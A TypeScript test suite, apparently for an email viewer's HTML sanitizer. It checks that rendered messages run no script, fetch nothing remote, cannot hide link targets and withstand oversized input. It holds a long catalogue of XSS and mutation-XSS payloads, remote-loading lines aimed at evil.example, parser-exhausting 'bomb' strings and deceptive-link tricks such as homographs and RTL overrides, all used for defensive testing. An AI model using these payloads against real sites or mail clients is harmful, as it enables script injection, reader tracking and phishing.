/** Promise: whatever a message is made of, its page runs nothing, fetches nothing, leads nowhere and hides no target. */
import assert from 'node:assert/strict'
import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import { fileURLToPath } from 'node:url'
import fc from 'fast-check'
import { assertHarmless, contentIn, harmsOf, htmlMail, lines, look, pageIn } from './testing/messages.ts'

/** Each tries another way to run, fetch, lead away or cover something. */
const hostile: Record<string, string> = {
  script: '<script>alert(1)</script>',
  'script cut off': '<script>alert(1)',
  'script in capitals': '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  'script within a tag': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'event handler': '<img src=x onerror=alert(1)>',
  'event handler after a slash': '<img/src=x/onerror=alert(1)>',
  'event handler in quotes': '<img src="x` `<script>alert(1)</script>"` `onerror=alert(1)>',
  'body onload': '<body onload=alert(1)>',
  'svg onload': '<svg onload=alert(1)><script>alert(1)</script></svg>',
  'svg use': '<svg><use href="https://evil.example/x.svg#a"/><animate onbegin=alert(1)></svg>',
  'math link': '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  'javascript link': '<a href="javascript:alert(1)">x</a>',
  'javascript link with a tab': '<a href="java&#9;script:alert(1)">x</a>',
  'javascript link in entities': '<a href="&#x6A&#x61&#x76&#x61script&colon;alert(1)">x</a>',
  'data link': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  'vbscript link': "<a href='vbscript:msgbox(1)'>x</a>",
  base: '<base href="https://evil.example/"><a href="x">y</a><img src="z.png">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'meta policy': '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  form: '<form action="https://evil.example"><input name=password type=password><button formaction="javascript:alert(1)">go</button></form>',
  iframe: '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  object:
    '<object data="https://evil.example/x.swf"><embed src="https://evil.example/x"></object><applet code=x>',
  'remote image': '<img src="https://evil.example/track.png?id=1">',
  'image without scheme': '<img src="//evil.example/track.png">',
  srcset:
    '<img srcset="https://evil.example/a 1x"><picture><source srcset="https://evil.example/b"></picture>',
  video: '<video src="https://evil.example/v" poster="https://evil.example/p" autoplay></video>',
  'background attribute':
    '<table background="https://evil.example/b.png"><tr><td background="//evil.example/c">x',
  'link element':
    '<link rel=stylesheet href="https://evil.example/x.css"><link rel=prefetch href="//evil.example/">',
  'style sheet':
    '<style>@import "https://evil.example/x.css"; body{background:url(//evil.example/x)}</style>',
  'style url': '<p style="background:url(https://evil.example/x)">x</p>',
  'style url in escapes': '<p style="background:u\\72l(https://evil.example/x)">x</p>',
  'style url in comments': '<p style="background:u/**/rl(https://evil.example/x)">x</p>',
  'style url in entities': '<p style="background&#58;url&lpar;https://evil.example/x&rpar;">x</p>',
  'style expression': '<p style="width:expression(alert(1))">x</p>',
  'style binding': '<p style="-moz-binding:url(https://evil.example/x);behavior:url(x.htc)">x</p>',
  'style image-set': '<p style="background-image:image-set(\'https://evil.example/x\' 1x)">x</p>',
  'style var': '<p style="--x:url(https://evil.example/x);background:var(--x)">x</p>',
  'style that covers':
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647">x</div>',
  'style that moves': '<div style="margin-top:-900px;transform:translate(1px)">x</div>',
  'style that leaves its attribute': '<p style="color:red&quot; onclick=&quot;alert(1)">x</p>',
  'class of ours': '<span class="target">‹https://good.example›</span><span id="x" name="y">z</span>',
  'attribute that leaves its quotes': '<img alt="&quot;><script>alert(1)</script>" src=x>',
  'title that leaves itself': '<title></title><script>alert(1)</script></title>',
  'textarea that leaves itself': '<textarea></textarea><script>alert(1)</script>',
  'noscript mutation': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'math style mutation':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'svg style mutation': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'form mutation': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'template mutation': '<template><script>alert(1)</script></template>',
  'select mutation': '<select><template><style></select><img src=x onerror=alert(1)></style>',
  'comment mutation': '<!--><img src=x onerror=alert(1)>--><!--!><img src=x onerror=alert(1)>',
  'comment in a conditional': '<!--[if mso]><script>alert(1)</script><![endif]-->',
  cdata: '<![CDATA[<script>alert(1)</script>]]>',
  'processing instruction': '<?xml-stylesheet href="javascript:alert(1)"?>x',
  xmp: '<xmp><script>alert(1)</script></xmp>',
  plaintext: '<plaintext><script>alert(1)</script>',
  frameset: '<frameset onload=alert(1)><frame src="https://evil.example"></frameset>',
  marquee: '<marquee onstart=alert(1)>x</marquee><details open ontoggle=alert(1)>x</details>',
  isindex: '<isindex type=image src=1 onerror=alert(1)><keygen autofocus onfocus=alert(1)>',
  'null in a tag': '<scr\0ipt>alert(1)</scr\0ipt><img src=x o\0nerror=alert(1)>',
  'broken ends': '</div></body></html><script>alert(1)</script>',
  'table that drops things': '<table><a href="https://evil.example">x<tr><td></table></td></a>',
  'names of every object':
    '<__proto__ constructor=1><toString valueOf=x><p __proto__="x" hasOwnProperty="y">z',
  'image data that is a page': '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  'image data that is svg': '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  'image data that lies': '<img src="data:image/png;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
}

for (const [what, html] of Object.entries(hostile))
  test(`harmless: ${what}`, () => {
    const page = pageIn(htmlMail(html))
    assertHarmless(page)
    // In the text of the page anything may be read; nowhere else may it stand.
    assert.doesNotMatch(page.replace(/>[^<]*</g, '><'), /evil\.example|alert\(/)
  })

test('harmless: any mixture of such pieces', () => {
  const pieces = fc.array(
    fc.oneof(
      fc.constantFrom(...Object.values(hostile)),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '</',
        '<!--',
        '-->',
        '=',
        '&',
        '&lt;',
        ' ',
        '/',
        '<a href=',
        '<td>',
        '</p>',
        '<p',
      ),
      fc.string({ maxLength: 5 }),
    ),
    { maxLength: 12 },
  )
  fc.assert(
    fc.property(pieces, (parts) => {
      const harms = harmsOf(pageIn(htmlMail(parts.join(''))))
      assert.deepEqual(harms, [])
    }),
    { numRuns: 500 },
  )
})

const megabyte = 1 << 20
const bombs: Record<string, string> = {
  'a million divs': '<div>'.repeat(megabyte),
  'nested tables': '<table><tr><td>'.repeat(megabyte / 15),
  'lesser-than signs': '<'.repeat(megabyte),
  'unclosed comments': '<!--'.repeat(megabyte / 4),
  'unclosed quotes': '<a href="'.repeat(megabyte / 9),
  'a huge attribute': `<p title="${'x'.repeat(megabyte)}">`,
  'many attributes': `<p ${'a="b" '.repeat(megabyte / 6)}>`,
  'ends of nothing': `${'<b>'.repeat(100_000)}${'</i>'.repeat(100_000)}`,
  'raw elements': '<style>'.repeat(megabyte / 7),
  'urls in a style': `<style>${'url(  '.repeat(megabyte / 6)}`,
  'blanks in links': `<a href="x${' '.repeat(3500)}y">z</a>`.repeat(290),
  'cells that never end': `<table>${'<td colspan=9999 rowspan=65534>x'.repeat(30_000)}`,
}

test('what is large or deep takes time by its size, and no browser chokes on what comes out', () => {
  for (const [what, html] of Object.entries(bombs)) {
    const begun = process.cpuUsage()
    const page = pageIn(htmlMail(html))
    contentIn(htmlMail(html))
    const { user } = process.cpuUsage(begun)
    assert.ok(user < 2_000_000, `${what}: ${user / 1000} ms`)
    assertHarmless(page, what)
    let depth = 0
    let deepest = 0
    for (const [, slash] of page.matchAll(/<(\/?)(?:div|table|td|tr|b|span)\b/g)) {
      depth += slash ? -1 : 1
      deepest = Math.max(deepest, depth)
    }
    assert.ok(deepest < 200, `${what}: ${deepest} deep`)
    assert.ok((page.match(/<[a-z]/g)?.length ?? 0) < 40_000, what)
    assert.doesNotMatch(page, /(?:col|row)span="\d{4}/)
  }
})

test('what takes a browser more time than it has characters is cut short, and that is said', () => {
  const heavy: [string, RegExp, number][] = [
    ['\u05d0a'.repeat(50_000), /\u05d0/g, 2000],
    ['xyz '.repeat(200_000), /xyz /g, 75_000],
    ['<a href="https://example.org/">y</a>'.repeat(20_000), /class="target"/g, 1000],
    [`<table>${'<td>x'.repeat(5000)}</table>`, /<td>/g, 200],
    [`<table>${'<tr><td colspan=50>x'.repeat(5000)}</table>`, /colspan/g, 41],
  ]
  for (const [html, pattern, most] of heavy) {
    const page = pageIn(htmlMail(html))
    const count = page.match(pattern)?.length ?? 0
    assert.ok(count > 0 && count <= most, `${html.slice(0, 20)}: ${count}`)
  }
  for (const text of ['\u05d0a'.repeat(50_000), 'x '.repeat(400_000)])
    for (const mail of [htmlMail(text), lines('Subject: x', '', text)])
      assert.match(pageIn(mail), /class="told">The message is long or hard to show/)
  assert.doesNotMatch(pageIn(htmlMail('\u05d0a '.repeat(500))), /class="told"/)
})

test('a link says where it leads, unless its text says so already', () => {
  const page = pageIn(
    htmlMail(
      '<a href="https://evil.example/login">https://bank.example/</a> <a href="https://same.example">same.example</a>' +
        ' <a href="mailto:a@example.org">a@example.org</a> <a href="https://xn--pple-43d.example/">аpple.example</a>' +
        ' <a href="https://bank.example@evil.example/">bank</a> <a href="https://x.example"><img src=cid:none></a>',
    ),
  )
  assert.match(page, /bank\.example\/<\/span><span class="target">‹https:\/\/evil\.example\/login›<\/span>/)
  assert.match(page, /same\.example<\/span> /)
  assert.match(page, /a@example\.org<\/span> /)
  assert.match(page, /‹https:\/\/xn--pple-43d\.example\/›/)
  assert.match(page, /‹https:\/\/bank\.example@evil\.example\/›/)
  assert.match(page, /‹https:\/\/x\.example\/›/)
  assert.doesNotMatch(page, /href/)
})

test('a text that is not seen, or a picture beside it, does not stand for the target', () => {
  for (const inner of [
    '<span style="display:none">evil.example</span><img src="cid:button">',
    '<font size=1 color=white>evil.example</font>',
    'evil.example<img src="x.png" width=1>',
    '<img alt="evil.example" src="cid:button">',
  ]) {
    const page = pageIn(htmlMail(`<a href="https://evil.example/">${inner}</a>`))
    assert.match(page, /<span class="target">‹https:\/\/evil\.example\/›<\/span>/, inner)
  }
  const bare = pageIn(htmlMail('<a href="https://good.example/"><b>good.example</b></a>'))
  assert.doesNotMatch(bare, /class="target"/)
})

test('relative links lead where the base of the page says', () => {
  const { links } = contentIn(
    htmlMail('<base href="https://evil.example/a/"><a href="../b">x</a><a href="//c.example">y</a>'),
  )
  assert.deepEqual(links, [
    { text: 'x', target: 'https://evil.example/b' },
    { text: 'y', target: 'https://c.example/' },
  ])
})

test('what turns the direction of writing or is not seen cannot disguise a target', () => {
  const mail = htmlMail(
    '<a href="https://evil.example/\u202egpj.exe">pic\u202egpj.exe</a><p>\u202eabc\u202c</p>',
  )
  const page = pageIn(mail)
  assert.doesNotMatch(page, /[\u202a-\u202e\u2066-\u2069]/)
  assert.match(page, /pic\[U\+202E\]gpj\.exe/)
  const [link] = contentIn(htmlMail('<a href="tel:1\u200b\u202e2">x</a>')).links
  assert.equal(link?.target, 'tel:1[U+200B][U+202E]2')
})

test('what a browser would show is not hidden from who looks here', () => {
  for (const html of [
    '<svg><style></svg><p>seen</p></style>',
    '<math><title></math><b>seen</b></title>',
    '<style>p{}<p>seen</p>',
    '<script>1;<p>seen</p>',
    '<!--><p>seen</p>-->',
    '<table><p>seen',
  ]) {
    assert.match(pageIn(htmlMail(html)), /seen/, html)
    assert.match(contentIn(htmlMail(html)).text, /seen/, html)
  }
})

test('pictures of the message are in its page, by their true type; others are told', () => {
  const png = Buffer.alloc(64)
  png.write('\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x02\0\0\0\x02', 'latin1')
  const huge = Buffer.from(png)
  huge.writeUInt32BE(60_000, 16)
  huge.writeUInt32BE(60_000, 20)
  const picture = (id: string, type: string, bytes: Buffer) =>
    lines(
      '--b',
      `Content-Type: ${type}`,
      `Content-ID: <${id}>`,
      'Content-Transfer-Encoding: base64',
      '',
      bytes.toString('base64'),
    )
  const mail =
    lines('Content-Type: multipart/related; boundary=b', '', '--b', 'Content-Type: text/html', '') +
    '<img src="cid:One%40x" width=9 onload=x alt=first><img src=cid:svg alt=second><img src=cid:bomb alt=third>' +
    '<img src="https://evil.example/t.gif"><img src="https://evil.example/dot.gif" width=1 height=1>\r\n' +
    picture('one@x', 'application/octet-stream', png) +
    picture('svg', 'image/png', Buffer.from('<svg onload=alert(1)></svg>'.padEnd(64))) +
    picture('bomb', 'image/png', huge) +
    lines('--b--')
  const page = pageIn(mail)
  assertHarmless(page)
  assert.ok(
    page.includes(`<img src="data:image/png;base64,${png.toString('base64')}" alt="first" width="9">`),
  )
  assert.match(page, /<span class="absent">second<\/span><span class="absent">third<\/span>/)
  assert.match(page, /<span class="absent">remote picture<\/span><\/div>/)
  const { parts, remoteContent } = contentIn(mail)
  assert.equal(remoteContent, 2)
  assert.deepEqual(
    parts.map(({ part, type, trueType, inline }) => ({ part, type, trueType, inline })),
    [
      { part: 2, type: 'application/octet-stream', trueType: 'image/png', inline: true },
      { part: 3, type: 'image/png', trueType: 'image/svg+xml', inline: true },
      { part: 4, type: 'image/png', trueType: 'image/png', inline: true },
    ],
  )
})

test('plain text is a page in the theme asked for; HTML is on white as it was written for', () => {
  const plain = pageIn(lines('Subject: x', '', 'a <b>', '  indented & wrapped'), 'dark')
  assert.match(plain, /<html lang="en" class="dark">/)
  assert.match(plain, /<div class="plain">a &lt;b&gt;\n {2}indented &amp; wrapped\n<\/div>/)
  assert.match(pageIn(htmlMail('<p>x'), 'dark'), /class="light"/)
})

test('honest HTML keeps its look', () => {
  const page = pageIn(
    htmlMail(
      '<table width="600" bgcolor="#eeeeee"><tr><td align=center style="padding: 10px; color: #112233 !important; font-family: \'Times New Roman\', serif">' +
        '<p>One<p>Two<ul><li>a<li>b</ul><font color=red size=4>x</font><hr></table>',
    ),
  )
  assertHarmless(page)
  assert.match(
    page,
    /<table width="600" bgcolor="#eeeeee"><tr><td align="center" style="padding:10px;color:#112233;font-family:Times New Roman, serif">/,
  )
  assert.match(
    page,
    /<p>One<\/p><p>Two<\/p><ul><li>a<\/li><li>b<\/li><\/ul><font color="red" size="4">x<\/font><hr><\/td><\/tr><\/table>/,
  )
})

const corpus = join(fileURLToPath(new URL('../../..', import.meta.url)), 'shared/mail')

test('real mail is shown', { skip: !existsSync(corpus) }, () => {
  const files = readdirSync(corpus, { recursive: true, withFileTypes: true }).filter((entry) =>
    entry.isFile(),
  )
  for (const { parentPath, name } of files) {
    const message = readFileSync(join(parentPath, name))
    const looked = look(message, 65_536)
    assert.ok(looked.root, name)
    assertHarmless(pageIn(message), name)
    const { text, textIsFrom } = contentIn(message)
    assert.ok(textIsFrom === 'none' || text.length >= 0, name)
  }
})
